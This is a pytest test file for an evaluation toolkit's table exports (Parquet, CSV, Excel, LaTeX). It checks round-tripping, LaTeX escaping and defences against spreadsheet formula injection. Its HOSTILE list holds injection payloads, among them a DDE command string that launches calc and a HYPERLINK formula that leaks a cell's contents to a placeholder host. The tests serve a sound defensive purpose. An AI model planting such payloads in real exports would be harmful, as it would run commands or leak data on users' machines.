"""Runs as tables: Parquet, CSV, Excel and LaTeX."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import openpyxl  # type: ignore[import-untyped] # it has no types
import pandas as pd
import pyarrow.parquet as pq
import pytest
from loopback import ChatServer
from own_task import own_task
from same_cards import same

import evalkit
from evalkit.analysis.leaderboard import COLUMNS as BOARD
from evalkit.exports.export import write_export
from evalkit.exports.latex import escape
from evalkit.exports.options import ExportOptions
from evalkit.exports.source import RunSource
from evalkit.runs import journal
from evalkit.runs.dataframe import COLUMNS
from evalkit.text import is_formula

HOSTILE = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", " =1", '"=1', "＝1"]


def hostile_run(server: ChatServer, folder: Path) -> evalkit.RunResult:
    """A run whose answers a spreadsheet would run."""
    texts = [*HOSTILE, "a\x00b\x07c", "long " * 10_000]
    samples = f"[Sample(id=str(k), input=str(k), target='1') for k in range({len(texts)})]"
    server.answer = lambda body: texts[int(body["messages"][-1]["content"])]
    return evalkit.run(own_task(folder, samples), model="=m", base_url=server.url, out=folder / "results")


def csv_rows(path: Path) -> list[list[str]]:
    """The lines of a CSV file, its header first."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("form", ["parquet", "csv", "xlsx"])
def test_the_way_back_gives_the_same_scorecards(everything: evalkit.RunResult, tmp_path: Path, form: str) -> None:
    """The records of every table are read back, outcomes and kinds of non-answer as they were."""
    records, *_ = evalkit.export(everything.folder, to=form, output=tmp_path / form)
    back = evalkit.rescore(records, out=tmp_path)
    assert same(back.scorecards) == same(everything.scorecards)


def test_parquet_has_the_columns_of_load(everything: evalkit.RunResult, tmp_path: Path) -> None:
    """The same columns in every file, of fixed types; a row for each missing answer; and the board."""
    records, board = evalkit.export(everything.folder, to="parquet", output=tmp_path)
    table = pq.read_table(records)
    assert table.column_names == COLUMNS
    asked = sum(card.n + card.missing.total for card in everything.scorecards)
    assert table.num_rows == asked
    assert str(table.schema.field("reasoning").type) == "string"  # although there is none
    loaded = evalkit.load(everything.folder, missing=True)
    assert table["outcome"].to_pylist() == list(loaded["outcome"])
    assert pq.read_table(board).column_names == BOARD


def test_the_board_is_that_of_the_leaderboard(folder: Path, tmp_path: Path) -> None:
    """Row for row."""
    _, board = evalkit.export(folder, to="csv", output=tmp_path)
    shown, expected = pd.read_csv(board), evalkit.leaderboard([folder])
    assert list(shown["score"].round(12)) == list(expected["score"].astype(float).round(12))


def test_csv_runs_nothing(server: ChatServer, tmp_path: Path) -> None:
    """A text that a spreadsheet would run has an apostrophe before it, in answers, names and the board."""
    records, board = evalkit.export(hostile_run(server, tmp_path).folder, to="csv", output=tmp_path / "csv")
    rows = csv_rows(records)
    names, lines = rows[0], rows[1:]
    texts = {line[names.index("sample_id")]: line[names.index("text")] for line in lines}
    assert [texts[str(k)] for k in range(len(HOSTILE))] == [f"'{text}" for text in HOSTILE]
    cells = [cell for path in (records, board) for line in csv_rows(path) for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert {line[names.index("model")] for line in lines} == {"'=m"}


def test_a_workbook_runs_nothing_and_keeps_texts(server: ChatServer, tmp_path: Path) -> None:
    """Texts are texts, whatever they look like; what a cell cannot hold is replaced, or cut and said."""
    run = hostile_run(server, tmp_path)
    exported = write_export((run.folder,), to="xlsx", output=tmp_path, out=tmp_path, options=ExportOptions())
    sheet = openpyxl.load_workbook(exported.files[0])["records"]
    names = [cell.value for cell in sheet[1]]
    texts = [row[names.index("text")] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "b"}
    assert [str(cell.value) for cell in texts[:8]] == HOSTILE
    assert all(cell.quotePrefix for cell in texts[:8])
    assert texts[8].value == "a\ufffdb\ufffdc"
    assert len(str(texts[9].value)) == 32_767
    assert exported.notes == [
        "1 texts were cut at 32,767 characters, the most that a cell holds; --to parquet keeps them"
    ]


@pytest.mark.parametrize("text", ["=1", "  +1", "\n-1", "@x", "＋1", "'=1", '"=1"', "\ufeff=1", "\t1"])
def test_what_looks_like_a_formula(text: str) -> None:
    """Also behind blanks, quotation marks and marks that nobody sees, and in wide characters."""
    assert is_formula(text)


@pytest.mark.parametrize("text", ["1", "a=b", "I don't know", "", "3 - 2"])
def test_what_does_not(text: str) -> None:
    """Text and numbers as answers have them."""
    assert not is_formula(text)


def test_latex_prints_names_as_they_are(server: ChatServer, tmp_path: Path) -> None:
    """Special characters are escaped, also an opening bracket, which would be an option at the start of a row."""
    assert escape(r"a_b & 50% \x {y} [z] ~ ^ $ #") == (
        r"a\_b \& 50\% \textbackslash{}x \{y\} {[}z{]} \textasciitilde{} \textasciicircum{} \$ \#"
    )
    server.answer = lambda _: "50% of $x_1$ & more"
    samples = "[Sample(id='[1]', input='q', target='1')]"
    run = evalkit.run(own_task(tmp_path, samples), model="[m]_1", base_url=server.url, out=tmp_path, thresholds=[0.9])
    board, records = evalkit.export(run.folder, to="latex", output=tmp_path / "tex")
    text = board.read_text(encoding="utf-8")
    assert r"{[}m{]}\_1 & 1 & $-$9.00 {[}" in text
    assert text.count(r"\begin{tabular}") == text.count(r"\end{tabular}") == 1
    assert r"t & {[}1{]} & 0.9 & error & 50\% of" in records.read_text(encoding="utf-8")


def test_several_runs_are_one_table(folder: Path, tmp_path: Path, server: ChatServer) -> None:
    """Their records follow each other, and the board ranks their models together."""
    other = hostile_run(server, tmp_path)
    records, board = evalkit.export(folder, other.folder, to="csv", output=tmp_path / "csv")
    assert set(pd.read_csv(records)["run"]) == {folder.name, other.name}
    assert {"m", "'=m"} <= set(pd.read_csv(board)["model"])


def test_a_run_of_many_cards_is_read_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Hundreds of tasks or models take as long as one with as many answers."""
    rows = [
        {"id": "1", "task": f"t{k % 20}", "model": f"m{k // 20}", "answer": "a", "ok": k % 3 == 0} for k in range(80)
    ]
    (tmp_path / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    mapping = {"id": "id", "task": "task", "model": "model", "answer": "answer", "verdict": "ok"}
    run = evalkit.rescore(tmp_path / "rows.jsonl", mapping=mapping, out=tmp_path)
    source = RunSource.read(run.folder)
    walks: list[Path] = []
    walk = journal.lines

    def lines(path: Path) -> Iterator[tuple[int, bytes, bool]]:
        walks.append(path)
        return walk(path)

    monkeypatch.setattr(journal, "lines", lines)
    found = {(card.task, card.model): list(source.records(card)) for card in source.cards}
    assert len(found) == 80
    assert all((record.task, record.model) == key for key, (record,) in found.items())
    assert len(walks) == 1
